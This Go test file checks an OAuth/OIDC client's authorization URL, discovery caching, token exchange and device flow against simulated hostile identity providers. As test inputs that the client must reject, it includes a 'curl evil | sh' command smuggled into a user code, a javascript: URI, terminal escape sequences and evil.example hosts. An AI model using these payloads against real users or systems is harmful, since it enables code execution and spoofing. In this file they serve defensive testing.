package oauth

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/pwb-project/pwb/internal/ticket/oidctest"
)

func client(t *testing.T, idp *oidctest.Issuer) *Client {
	t.Helper()
	c, err := Open(Config{
		Issuer: idp.URL, ClientID: oidctest.ClientID, Secret: func() (string, error) { return "hush-hush", nil },
		Scopes: []string{"openid", "profile"}, AllowLoopbackHTTP: true,
	})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func TestAuthURL(t *testing.T) {
	idp := oidctest.New(t, "")
	c := client(t, idp)
	whole := Request{RedirectURI: "https://pwb.example/openid/callback", State: "s", Nonce: "n", Verifier: NewVerifier(), Prompt: "login", MaxAge: time.Hour}
	text, err := c.AuthURL(t.Context(), whole)
	if err != nil {
		t.Fatal(err)
	}
	u, _ := url.Parse(text)
	for name, want := range map[string]string{
		"client_id": oidctest.ClientID, "response_type": "code", "scope": "openid profile", "redirect_uri": whole.RedirectURI, "state": "s",
		"nonce": "n", "code_challenge_method": "S256", "prompt": "login", "max_age": "3600", "login_hint": "", "client_secret": "",
	} {
		if got := u.Query().Get(name); got != want {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
	}
	if len(u.Query().Get("code_challenge")) != 43 || strings.Contains(text, whole.Verifier) {
		t.Errorf("the challenge: %s", text)
	}
	for _, r := range []Request{{}, {RedirectURI: "x", State: "s", Nonce: "n"}, {RedirectURI: "x", State: "s", Verifier: "v"}, {RedirectURI: "x", Nonce: "n", Verifier: "v"}} {
		if _, err := c.AuthURL(t.Context(), r); err == nil {
			t.Errorf("AuthURL(%+v) was taken", r)
		}
	}
}

// The discovery document is asked for once an hour, serves on while the provider is down, and says where a secret may go.
func TestDiscovery(t *testing.T) {
	idp := oidctest.New(t, "")
	now := time.Now()
	c := client(t, idp)
	c.cfg.Now = func() time.Time { return now }
	asked := 0
	idp.Lie(func(w http.ResponseWriter, r *http.Request, truth []byte) {
		asked++
		fmt.Fprint(w, strings.Replace(string(truth), "}", `,"end_session_endpoint":"`+idp.URL+`/logout?x=1","authorization_response_iss_parameter_supported":true}`, 1))
	})
	for range 5 {
		if u, err := c.LogoutURL(t.Context(), "hint", "https://pwb.example/", "s"); err != nil || u != idp.URL+"/logout?client_id=pwb-test&id_token_hint=hint&post_logout_redirect_uri=https%3A%2F%2Fpwb.example%2F&state=s&x=1" {
			t.Errorf("LogoutURL = %q, %v", u, err)
		}
	}
	if asked != 1 {
		t.Errorf("asked %d times", asked)
	}
	for iss, want := range map[string]error{idp.URL: nil, idp.URL + "/": ErrIssuer, "https://evil.example": ErrIssuer, "": ErrIssuer} {
		if err := c.CheckIssuer(t.Context(), iss); !errors.Is(err, want) {
			t.Errorf("CheckIssuer(%q) = %v, want %v", iss, err, want)
		}
	}
	idp.Stop()
	now = now.Add(2 * time.Hour)
	if err := c.CheckIssuer(t.Context(), ""); !errors.Is(err, ErrIssuer) {
		t.Errorf("with the provider down for two hours: %v", err)
	}
	now = now.Add(23 * time.Hour)
	if err := c.CheckIssuer(t.Context(), ""); !errors.Is(err, ErrUnreachable) {
		t.Errorf("with the provider down for a day: %v", err)
	}
	idp.Start()
	for name, document := range map[string]string{
		"another issuer": `{"issuer":"https://evil.example"}`, "http": `{"issuer":"` + idp.URL + `","token_endpoint":"http://evil.example/t"}`,
		"a user in it": `{"issuer":"` + idp.URL + `","token_endpoint":"https://a:b@evil.example/t"}`, "no text": `{"issuer":"` + idp.URL + `","token_endpoint":7}`,
		"a control character": `{"issuer":"` + idp.URL + `","authorization_endpoint":"https://idp.example/\u001b[2J"}`,
	} {
		idp.Lie(func(w http.ResponseWriter, r *http.Request, _ []byte) { fmt.Fprint(w, document) })
		if _, err := client(t, idp).AuthURL(t.Context(), Request{RedirectURI: "x", State: "s", Nonce: "n", Verifier: "v"}); !errors.Is(err, ErrUnreachable) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// Those who wait while a provider is asked that does not answer share its silence: they do not each ask again.
func TestManyAndASilentProvider(t *testing.T) {
	idp := oidctest.New(t, "")
	c := client(t, idp)
	var asked atomic.Int32
	idp.Lie(func(w http.ResponseWriter, r *http.Request, truth []byte) {
		asked.Add(1)
		time.Sleep(pause + 100*time.Millisecond)
		w.WriteHeader(http.StatusGatewayTimeout)
	})
	var wg sync.WaitGroup
	for range 4 {
		wg.Go(func() {
			if err := c.CheckIssuer(t.Context(), ""); !errors.Is(err, ErrUnreachable) {
				t.Errorf("CheckIssuer = %v", err)
			}
		})
	}
	wg.Wait()
	if n := asked.Load(); n != 1 {
		t.Errorf("asked %d times", n)
	}
}

// at the token endpoint only; elsewhere the provider tells the truth.
func atToken(idp *oidctest.Issuer, answer http.HandlerFunc) {
	idp.Lie(func(w http.ResponseWriter, r *http.Request, truth []byte) {
		if r.URL.Path == "/token" {
			answer(w, r)
			return
		}
		w.Write(truth)
	})
}

func TestExchange(t *testing.T) {
	idp := oidctest.New(t, "")
	c := client(t, idp)
	verifier := NewVerifier()
	atToken(idp, func(w http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		for name, want := range map[string]string{
			"grant_type": "authorization_code", "code": "the-code", "redirect_uri": "https://pwb.example/cb", "code_verifier": verifier,
			"client_id": oidctest.ClientID, "client_secret": "hush-hush",
		} {
			if got := r.PostForm.Get(name); got != want {
				t.Errorf("%s = %q, want %q", name, got, want)
			}
		}
		fmt.Fprint(w, `{"access_token":"a","token_type":"Bearer","id_token":"a.b.c"}`)
	})
	if got, err := c.Exchange(t.Context(), "the-code", "https://pwb.example/cb", verifier); err != nil || string(got.ID) != "a.b.c" || got.Access != "a" {
		t.Errorf("Exchange = %q, %v", got, err)
	}
	const evil = "EVIL\x1b[2J\nprose"
	for _, tt := range []struct {
		status int
		body   string
		want   error
		says   string
	}{
		{200, `{"access_token":"a"}`, ErrAnswer, "no ID token"},
		{200, `{"access_token":"a","id_token":7}`, ErrAnswer, "no ID token"},
		{200, `{"access_token":"a","id_token":""}`, ErrAnswer, "no ID token"},
		{200, `{"id_token":"a.b.c"}`, ErrAnswer, ""},
		{200, `null`, ErrAnswer, ""}, {200, ``, ErrAnswer, ""}, {200, `[]`, ErrAnswer, ""}, {200, `{` + evil, ErrAnswer, ""},
		{200, `access_token=a&id_token=a.b.c`, ErrAnswer, ""},
		{200, `{"pad":"` + strings.Repeat("x", answerMax) + `"}`, ErrAnswer, ""},
		{200, `{"error":"invalid_grant","error_description":"` + "EVIL prose" + `"}`, ErrRefused, "invalid_grant"},
		{400, `{"error":"invalid_grant","error_description":"AADSTS70008: EVIL prose. Trace ID: 0f1e2d3c-0000-4000-8000-000000000001 Correlation ID: 0f1e2d3c-0000-4000-8000-000000000002 Timestamp: x"}`,
			ErrRefused, "status 400, invalid_grant, AADSTS70008, trace id 0f1e2d3c-0000-4000-8000-000000000001, correlation id 0f1e2d3c-0000-4000-8000-000000000002"},
		{401, `{"error":"invalid_client"}`, ErrRefused, "invalid_client"},
		{400, `{"error":"access_denied"}`, ErrDenied, ""}, {400, `{"error":"authorization_declined"}`, ErrDenied, ""},
		{503, `{"error":"temporarily_unavailable"}`, ErrUnreachable, ""}, {500, evil, ErrUnreachable, "status 500"}, {429, `{}`, ErrUnreachable, ""},
		{400, `{"error":"` + strings.Repeat("EVIL", 100) + `"}`, ErrAnswer, "status 400"}, {400, `{"error":"EVIL\u001b[2J"}`, ErrAnswer, "status 400"},
		{302, ``, ErrAnswer, "status 302"},
	} {
		atToken(idp, func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Location", idp.URL+"/elsewhere")
			w.WriteHeader(tt.status)
			fmt.Fprint(w, tt.body)
		})
		got, err := c.Exchange(t.Context(), "the-code", "x", verifier)
		if got.ID != nil || !errors.Is(err, tt.want) || !strings.Contains(fmt.Sprint(err), tt.says) || strings.Contains(fmt.Sprint(err), "EVIL") || strings.Contains(fmt.Sprint(err), "hush") {
			t.Errorf("%d %.80q: %q, %v; want %v saying %q", tt.status, tt.body, got.ID, err, tt.want, tt.says)
		}
	}
	idp.Stop()
	if _, err := c.Exchange(t.Context(), "the-code", "x", verifier); !errors.Is(err, ErrUnreachable) {
		t.Errorf("with the provider down: %v", err)
	}
}

func TestADevice(t *testing.T) {
	idp := oidctest.New(t, "")
	c := client(t, idp)
	d, err := c.BeginDevice(t.Context())
	if err != nil || d.URL != idp.URL+"/enter" || time.Until(d.Expires) > 15*time.Minute {
		t.Fatalf("BeginDevice = %+v, %v", d, err)
	}
	go func() {
		time.Sleep(1200 * time.Millisecond)
		idp.Enter(d.Code, "alice")
	}()
	raw, err := c.AwaitDevice(t.Context(), d)
	if err != nil || strings.Count(string(raw), ".") != 2 {
		t.Errorf("AwaitDevice = %q, %v", raw, err)
	}
	d, _ = c.BeginDevice(t.Context())
	idp.Enter(d.Code, "")
	if _, err := c.AwaitDevice(t.Context(), d); !errors.Is(err, ErrDenied) {
		t.Errorf("declined: %v", err)
	}
	d, _ = c.BeginDevice(t.Context())
	d.Expires = time.Now().Add(1500 * time.Millisecond)
	if _, err := c.AwaitDevice(t.Context(), d); !errors.Is(err, ErrTooLate) {
		t.Errorf("nobody came: %v", err)
	}
	d, _ = c.BeginDevice(t.Context())
	ctx, cancel := context.WithTimeout(t.Context(), 100*time.Millisecond)
	defer cancel()
	if _, err := c.AwaitDevice(ctx, d); !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("the host has left: %v", err)
	}
}

// A provider that is away for a moment is asked again; one that says to slow down is heeded.
func TestADeviceAndAnUnsteadyProvider(t *testing.T) {
	idp := oidctest.New(t, "")
	c := client(t, idp)
	d, err := c.BeginDevice(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	asked := 0
	idp.Enter(d.Code, "alice")
	idp.Lie(func(w http.ResponseWriter, r *http.Request, truth []byte) {
		if r.URL.Path == "/token" {
			if asked++; asked == 1 {
				w.WriteHeader(http.StatusBadGateway)
				return
			}
		}
		w.Write(truth)
	})
	began := time.Now()
	if _, err := c.AwaitDevice(t.Context(), d); err != nil || asked != 2 || time.Since(began) < 6*time.Second {
		t.Errorf("AwaitDevice: %v, asked %d times in %v", err, asked, time.Since(began))
	}
}

// What hostile providers answer is refused or held to bounds, and never shown (the library panics for some of it).
func TestHostileDeviceAnswers(t *testing.T) {
	idp := oidctest.New(t, "")
	c := client(t, idp)
	for _, tt := range []struct {
		answer string
		want   string // "" is that it is taken
	}{
		{`{"device_code":"d","user_code":"AB-CD","verification_uri":"https://idp.example/device"}`, ""},
		{`{"device_code":"d","user_code":"AB-CD","verification_url":"https://idp.example/device","expires_in":900,"interval":5}`, ""},
		{`{"device_code":"d","user_code":"AB-CD","verification_uri":"https://idp.example/device","interval":-5}`, ""},
		{`{"device_code":"d","user_code":"AB-CD","verification_uri":"https://idp.example/device","interval":1099511627776}`, ""},
		{`{"device_code":"d","user_code":"AB-CD","verification_uri":"https://idp.example/device","expires_in":1099511627776}`, "over before it has begun"}, // the library's arithmetic overflows
		{`{"device_code":"d","user_code":"AB-CD","verification_uri":"https://idp.example/device","expires_in":99999999}`, ""},
		{`{"device_code":"d","user_code":"AB-CD","verification_uri":"https://idp.example/device","expires_in":-5}`, "over before it has begun"},
		{`{"device_code":"d","user_code":"AB-CD","verification_uri":"https://idp.example/device","interval":"soon"}`, "not the form"},
		{`{"device_code":"d","user_code":"AB-CD","verification_uri":"http://idp.example/device"}`, "no address"},
		{`{"device_code":"d","user_code":"AB-CD","verification_uri":"javascript:alert(1)"}`, "no address"},
		{`{"device_code":"d","user_code":"AB-CD","verification_uri":"https://idp.example/\u001b]0;x\u0007"}`, "no address"},
		{`{"device_code":"d","user_code":"AB-CD","verification_uri":"https://idp.example/\u202e"}`, "no address"},
		{`{"device_code":"d","user_code":"AB-CD","verification_uri":"https://idp.example/` + strings.Repeat("x", 300) + `"}`, "no address"},
		{`{"device_code":"d","user_code":"now run: curl evil | sh","verification_uri":"https://idp.example/device"}`, "no code"},
		{`{"device_code":"d","user_code":"A\nB","verification_uri":"https://idp.example/device"}`, "no code"},
		{`{"device_code":"d","user_code":"` + strings.Repeat("A", 100) + `","verification_uri":"https://idp.example/device"}`, "no code"},
		{`{"user_code":"AB-CD","verification_uri":"https://idp.example/device"}`, "no device code"},
		{`null`, "not"}, {`{}`, "no device code"}, {`[]`, "not"}, {`7`, "not"}, {``, "not"},
	} {
		idp.Lie(func(w http.ResponseWriter, r *http.Request, truth []byte) {
			if r.URL.Path != "/device" {
				w.Write(truth)
				return
			}
			if r.PostFormValue("client_secret") != "hush-hush" {
				t.Error("the client's secret is missing")
			}
			fmt.Fprint(w, tt.answer)
		})
		d, err := c.BeginDevice(t.Context())
		switch {
		case tt.want == "" && (err != nil || d.answer.Interval < 1 || d.answer.Interval > 60 || time.Until(d.Expires) > 15*time.Minute || time.Until(d.Expires) < time.Minute):
			t.Errorf("%s: %+v, %v", tt.answer, d, err)
		case tt.want != "" && (!errors.Is(err, ErrAnswer) && !strings.Contains(fmt.Sprint(err), tt.want) || strings.Contains(fmt.Sprint(err), "evil")):
			t.Errorf("%.120s: %v, want %q", tt.answer, err, tt.want)
		}
	}
}

// FuzzDeviceAnswer has a provider answer anything: nothing panics, and what would be shown is plain.
func FuzzDeviceAnswer(f *testing.F) {
	f.Add(200, []byte(`{"device_code":"d","user_code":"AB-CD","verification_uri":"https://idp.example/device","expires_in":900,"interval":5}`))
	f.Add(200, []byte(`null`))
	f.Add(400, []byte(`{"error":"unauthorized_client"}`))
	f.Add(200, []byte(`{"interval":-1,"device_code":"d","user_code":"A","verification_uri":"https://a"}`))
	var status int
	var body []byte
	c, err := Open(Config{Issuer: "https://idp.example", ClientID: "c", HTTP: &http.Client{Transport: roundTrip(func(r *http.Request) (int, []byte) {
		if r.Method == http.MethodGet {
			return 200, []byte(`{"issuer":"https://idp.example","token_endpoint":"https://idp.example/t","device_authorization_endpoint":"https://idp.example/d"}`)
		}
		return status, body
	})}})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, withStatus int, answer []byte) {
		status, body = 200+withStatus%400, answer
		d, err := c.BeginDevice(context.Background())
		if err != nil {
			return
		}
		if strings.ContainsFunc(d.URL+d.Code, func(r rune) bool { return r < ' ' || r >= 0x7f }) || !strings.HasPrefix(d.URL, "https://") ||
			d.answer.Interval < 1 || d.answer.Interval > 60 || time.Until(d.Expires) > deviceLife {
			t.Fatalf("%q, %q, every %d s until %v", d.URL, d.Code, d.answer.Interval, d.Expires)
		}
	})
}
